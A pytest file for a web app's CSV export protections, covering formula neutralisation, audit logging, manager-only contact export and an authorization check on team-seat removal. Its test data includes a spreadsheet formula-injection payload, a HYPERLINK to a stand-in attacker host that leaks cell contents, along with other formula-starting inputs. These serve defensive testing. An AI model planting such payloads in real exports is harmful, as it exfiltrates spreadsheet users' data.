"""CSV exports are formula-safe, audited and, for contacts, limited to managers and admins
(issue 16.4): a contact named =HYPERLINK(…) used to reach the spreadsheet as a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from tenure.model import AccountTeamMember, AccountTeamRole, AuditLog, Contact
from tenure.web.exports import csv_text
from tests.web.factories import csrf_of, sign_in
from tests.web.fixtures import Console, console_fixture  # noqa: F401  (the fixture)

LINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (LINK, "'" + LINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme = good", "Acme = good"),
        (-1200.5, "-1200.5"),
        (None, ""),
    ],
)
def test_cells_that_start_a_formula_get_a_leading_quote(value: object, cell: str) -> None:
    text, count = csv_text(["v"], [{"v": value}])
    assert _rows(text) == [["v"], [cell]] and count == 1


def test_contact_export_neutralizes_formulas_and_is_audited(console: Console) -> None:
    with console.session() as db:
        db.add(
            Contact(
                external_id="acme-evil",
                account_id=console.book.acme.id,
                name=LINK,
                email="evil@example.com",
                title="@cmd",
                roles=["champion"],
            )
        )
        db.commit()
    sign_in(console.client, "max@example.com")
    response = console.client.get("/contacts.csv?role=champion")
    assert response.status_code == 200
    assert ["acme", "Acme", "'" + LINK, "evil@example.com", "'@cmd", "", "Champion"] in _rows(
        response.text
    )
    with console.session() as db:
        entry = db.query(AuditLog).filter_by(action="export.csv", entity="contacts").one()
        assert entry.actor_id == console.book.max.id
        assert entry.after is not None and entry.after["rows"] == 2
        assert entry.after["filters"]["role"] == "champion"


@pytest.mark.parametrize("email", ["cleo@example.com", "vic@example.com"])
def test_contact_export_is_for_managers_and_admins(console: Console, email: str) -> None:
    sign_in(console.client, email)
    refused = console.client.get("/contacts.csv")
    assert refused.status_code == 403 and "manager" in refused.text
    sign_in(console.client, "ada@example.com")
    assert console.client.get("/contacts.csv").status_code == 200


def test_portfolio_export_neutralizes_account_names_and_is_audited(console: Console) -> None:
    with console.session() as db:
        db.get_one(type(console.book.acme), console.book.acme.id).name = "+Acme"
        db.commit()
    sign_in(console.client, "ada@example.com")
    response = console.client.get("/portfolio.csv?q=Acme")
    assert response.status_code == 200
    assert [row[1] for row in _rows(response.text)[1:]] == ["'+Acme"]
    with console.session() as db:
        entry = db.query(AuditLog).filter_by(action="export.csv", entity="portfolio").one()
        assert entry.after == {"rows": 1, "filters": {"q": "Acme"}}


def test_team_removal_checks_the_account_in_its_path(console: Console) -> None:
    """Issue 16.7: /accounts/<globex>/team/<acme's seat>/remove used to remove Acme's seat."""
    book = console.book
    with console.session() as db:
        seat = AccountTeamMember(
            account_id=book.acme.id, user_id=book.sam.id, role=AccountTeamRole.support_lead
        )
        db.add(seat)
        db.commit()
        seat_id = seat.id
    sign_in(console.client, "ada@example.com")
    token = csrf_of(console.client.get("/today").text)
    wrong = console.client.post(
        f"/accounts/{book.globex.id}/team/{seat_id}/remove", data={"csrf_token": token}
    )
    assert wrong.status_code == 404
    with console.session() as db:
        assert db.get(AccountTeamMember, seat_id) is not None
    right = console.client.post(
        f"/accounts/{book.acme.id}/team/{seat_id}/remove", data={"csrf_token": token}
    )
    assert right.status_code == 200
    with console.session() as db:
        assert db.get(AccountTeamMember, seat_id) is None
